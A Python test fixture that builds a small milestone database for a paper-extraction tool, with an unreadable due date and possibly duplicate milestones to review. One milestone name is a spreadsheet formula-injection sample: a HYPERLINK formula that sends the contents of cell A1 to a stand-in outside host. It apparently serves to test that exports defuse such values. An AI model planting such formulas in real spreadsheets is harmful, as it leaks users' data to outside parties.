"""A small database with something in it for a person to decide."""

from __future__ import annotations

import hashlib
from pathlib import Path

from papers2data.check import check_all
from papers2data.link import link_all
from papers2data.model import Extraction, Finding, Span
from papers2data.store import load, open_db
from tests.cli.sample import build
from tests.store.papers import NOW, milestone, pdf

FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1,"Pier")'
"""A milestone's name that a spreadsheet would run."""


def with_work(path: Path) -> Path:
    """The small database at ``path``, with two reports whose milestones may be the same, and a date nobody can read."""
    build(path)
    db = open_db(path)
    try:
        load(
            db,
            _paper(
                "2025-01-20", "Captain of the Pilot Boat to give a demonstration to the Committee", "Boats", "soonish"
            ),
            NOW,
        )
        load(
            db,
            _paper("2025-04-20", "Pilot Boat: the number of trips made, and by which crews", "Boats", "May 2025"),
            NOW,
        )
        load(db, _launches(), NOW)
        link_all(db)
        check_all(db)
    finally:
        db.close()
    return path


def _launches() -> Extraction:
    names = ("Moor the launch", "Berth the launch", "Launch", FORMULA)
    records = tuple(milestone(f"t0r{n}", name, programme="Launches") for n, name in enumerate(names, 1))
    return pdf("2025/launches.pdf", ". ".join(names), date="2025-05-20", records=records)


def _paper(day: str, name: str, programme: str, due: str) -> Extraction:
    table = Finding("table-unrecognised", "No layout knows this table.", Span(page=1))
    path = f"2025/boats-{day[:7]}.pdf"
    record = f"{hashlib.sha256(path.encode()).hexdigest()[:12]}-t0r1"
    said = f"“{due}” could not be read as a date; it is kept as printed."
    unread = Finding("value-unread", said, Span(page=1), record_table="milestone_readings", record_id=record)
    return pdf(
        path,
        f"The pilot boat was discussed on {day}. {name}. Due {due}.",
        content=path,
        date=day,
        records=(
            milestone("t0r1", name, programme=programme, status="on_track", status_text="On Target", due_text=due),
        ),
        findings=(table, unread) if due == "soonish" else (),
    )
